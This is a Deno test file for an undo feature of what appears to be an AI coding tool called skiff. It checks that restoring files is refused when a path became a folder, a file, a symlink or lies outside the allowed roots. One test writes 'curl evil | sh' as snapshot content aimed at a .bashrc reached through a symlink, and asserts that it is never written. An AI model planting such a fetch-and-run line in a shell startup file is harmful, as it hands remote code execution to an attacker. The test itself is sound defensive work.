/**
 * Undo of one prompt from its snapshots: a path that cannot be put back (a
 * folder now stands where the file was, its parent became a file) is refused
 * and named, and the other files of the prompt are still put back.
 */
import { assertEquals, assertStringIncludes } from "../support/assert.ts";
import { undoSnapshots } from "../../src/undo/undo.ts";
import { hashContent } from "../../src/tools/files/file_ledger.ts";

const bytes = (text: string) => new TextEncoder().encode(text);

async function withDir(work: (dir: string) => Promise<void>): Promise<void> {
  const dir = await Deno.realPath(await Deno.makeTempDir({ prefix: "skiff-undo-" }));
  try {
    await work(dir);
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
}

Deno.test("a folder where the file was is refused; the other files are still put back", async () => {
  await withDir(async (dir) => {
    const file = `${dir}/a.txt`;
    const other = `${dir}/b.txt`;
    await Deno.mkdir(file); // a person replaced the file with a folder
    await Deno.writeTextFile(other, "by skiff\n");
    const report = await undoSnapshots(
      [{ path: file, content: bytes("old a\n") }, { path: other, content: bytes("old b\n") }],
      new Map([[other, hashContent("by skiff\n")]]),
      { roots: [dir] },
    );
    assertEquals(report.restored, [other]);
    assertEquals(report.refused.map((refusal) => refusal.path), [file]);
    assertStringIncludes(report.refused[0].reason, "left as it is");
    assertEquals(await Deno.readTextFile(other), "old b\n");
    assertEquals((await Deno.stat(file)).isDirectory, true, "the folder stays");
  });
});

Deno.test("a file deleted whose folder is now a file is refused, not a crash", async () => {
  await withDir(async (dir) => {
    await Deno.writeTextFile(`${dir}/sub`, "a file where the folder was\n");
    const gone = `${dir}/sub/c.txt`;
    const report = await undoSnapshots([{ path: gone, content: bytes("old c\n") }], new Map(), {
      roots: [dir],
    });
    assertEquals(report.restored, []);
    assertEquals(report.refused.map((refusal) => refusal.path), [gone]);
    assertStringIncludes(report.refused[0].reason, "could not put it back");
    assertEquals(await Deno.readTextFile(`${dir}/sub`), "a file where the folder was\n");
  });
});

Deno.test("a file deleted by the prompt comes back, and an executable keeps its mode", async () => {
  await withDir(async (dir) => {
    const script = `${dir}/run.sh`;
    await Deno.writeTextFile(script, "echo new\n");
    await Deno.chmod(script, 0o755);
    const deleted = `${dir}/gone.txt`;
    const report = await undoSnapshots(
      [{ path: script, content: bytes("echo old\n") }, { path: deleted, content: bytes("back\n") }],
      new Map([[script, hashContent("echo new\n")]]),
      { roots: [dir] },
    );
    assertEquals(report.refused, []);
    assertEquals(await Deno.readTextFile(deleted), "back\n");
    assertEquals(await Deno.readTextFile(script), "echo old\n");
    assertEquals((await Deno.stat(script)).mode! & 0o777, 0o755);
  });
});

Deno.test("a path whose folder became a symlink is refused, inside the roots or not", async () => {
  await withDir(async (dir) => {
    const outside = await Deno.realPath(await Deno.makeTempDir({ prefix: "skiff-undo-out-" }));
    try {
      await Deno.writeTextFile(`${outside}/.bashrc`, "by skiff\n");
      await Deno.mkdir(`${dir}/inner`);
      await Deno.writeTextFile(`${dir}/inner/x.txt`, "by skiff\n");
      await Deno.symlink(outside, `${dir}/d`);
      await Deno.symlink(`${dir}/inner`, `${dir}/e`);
      const known = new Map([
        [`${dir}/d/.bashrc`, hashContent("by skiff\n")],
        [`${dir}/e/x.txt`, hashContent("by skiff\n")],
      ]);
      const report = await undoSnapshots(
        [
          { path: `${dir}/d/.bashrc`, content: bytes("curl evil | sh\n") },
          { path: `${dir}/e/x.txt`, content: null },
        ],
        known,
        { roots: [dir] },
      );
      assertEquals(report.refused.length, 2);
      assertStringIncludes(report.refused[0].reason, "became a symlink");
      assertEquals(await Deno.readTextFile(`${outside}/.bashrc`), "by skiff\n");
      assertEquals(await Deno.readTextFile(`${dir}/inner/x.txt`), "by skiff\n");
    } finally {
      await Deno.remove(outside, { recursive: true });
    }
  });
});

Deno.test("a file outside the roots is refused with the flag that allows it", async () => {
  await withDir(async (dir) => {
    const other = await Deno.realPath(await Deno.makeTempDir({ prefix: "skiff-undo-add-" }));
    try {
      await Deno.writeTextFile(`${other}/a.txt`, "by skiff\n");
      const report = await undoSnapshots(
        [{ path: `${other}/a.txt`, content: bytes("old\n") }],
        new Map([[`${other}/a.txt`, hashContent("by skiff\n")]]),
        { roots: [dir] },
      );
      assertStringIncludes(report.refused[0]?.reason ?? "", "--add-dir");
      assertEquals(await Deno.readTextFile(`${other}/a.txt`), "by skiff\n");
    } finally {
      await Deno.remove(other, { recursive: true });
    }
  });
});
